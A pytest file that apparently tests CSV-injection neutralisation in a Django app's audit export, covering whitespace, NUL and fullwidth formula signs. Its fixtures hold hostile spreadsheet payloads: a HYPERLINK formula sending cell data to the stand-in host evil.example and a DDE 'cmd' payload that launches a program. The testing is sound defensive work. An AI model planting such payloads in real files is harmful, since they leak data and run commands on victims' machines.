"""GET /audit/export.csv, spreadsheet safety beyond = + - @: cells that start with whitespace
(space, tab, CR, LF), a NUL, or a fullwidth equals, plus, minus or at sign (U+FF1D, U+FF0B,
U+FF0D, U+FF20: some spreadsheets read them as the ASCII ones) get the same leading '
(OWASP CSV Injection; ASVS 5.0 1.2.10), and that ' can still be taken off to get the original.

Kept apart from test_audit_export.py, which is being reworked together with audit/.
"""

import csv
import io

import pytest

from audit.export import BOM, neutralise_cell, restore_cell
from decisions.services import DecisionSpec, decision_answer, decision_create
from organizations.services import api_key_create
from tests.conftest import ALICE, client_for
from tests.helpers import seal

FW_EQUALS, FW_PLUS, FW_MINUS, FW_AT = "\uff1d", "\uff0b", "\uff0d", "\uff20"
HOSTILE_STARTS = {
    "space": " =1+2",
    "line-feed": "\n=1+2",
    "carriage-return": "\r=1+2",
    "tab": "\t=1+2",
    "nul": "\x00=1+2",
    "fullwidth-equals": f'{FW_EQUALS}HYPERLINK("http://evil.example","Click")',
    "fullwidth-plus": f"{FW_PLUS}1+2",
    "fullwidth-minus": f"{FW_MINUS}1+2",
    "fullwidth-at": f"{FW_AT}SUM(A1)",
}


@pytest.mark.parametrize("value", HOSTILE_STARTS.values(), ids=HOSTILE_STARTS.keys())
def test_cells_starting_with_whitespace_or_a_fullwidth_formula_sign_are_neutralised_and_restorable(value):
    assert neutralise_cell(value) == "'" + value
    assert restore_cell(neutralise_cell(value)) == value


@pytest.mark.parametrize("value", ["plain", "a =1", "\uff11\uff10\uff10", "", "caf\u00e9 = 1"])
def test_other_cells_are_left_alone(value):
    assert neutralise_cell(value) == value


@pytest.mark.django_db(transaction=True)  # the export holds sealed events, and sealing needs a commit
def test_the_export_neutralises_such_cells_wherever_they_are(acme):
    # given: an approver's answer whose note, IP, user agent and recorded name start like
    # formulas in the ways the = + - @ check missed
    key, _ = api_key_create(organization=acme, scopes=["decisions"], name="agent")
    decision, _ = decision_create(
        api_key=key,
        spec=DecisionSpec(action="Refund order #1042", stages=[{"approvers": [ALICE], "quorum": "any"}]),
    )
    request = decision.requests.get(address=ALICE)
    decision_answer(
        request_id=request.pk,
        choice="approve",
        note=' =HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        via="email",
        ip="\n=1+2",
        user_agent=f"{FW_AT}SUM(1+1)*cmd|' /C calc'!A0",
        answered_by=f"{FW_EQUALS}alice",
    )
    auditor = client_for(api_key_create(organization=acme, scopes=["audit"], name="compliance")[1])
    seal()

    # when
    response = auditor.get("/audit/export.csv")

    # then
    body = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(body.removeprefix(BOM), newline="")))
    row = next(r for r in rows if r["event"] == "decision.answered")
    assert row["note"] == '\' =HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    assert row["ip"] == "'\n=1+2"
    assert row["user_agent"] == f"'{FW_AT}SUM(1+1)*cmd|' /C calc'!A0"
    assert row["actor"] == f"'{FW_EQUALS}alice"
    risky = ("=", "+", "-", "@", "\t", "\r", "\n", " ", "\x00", FW_EQUALS, FW_PLUS, FW_MINUS, FW_AT)
    for exported in rows:
        for value in exported.values():
            assert not value.startswith(risky), value
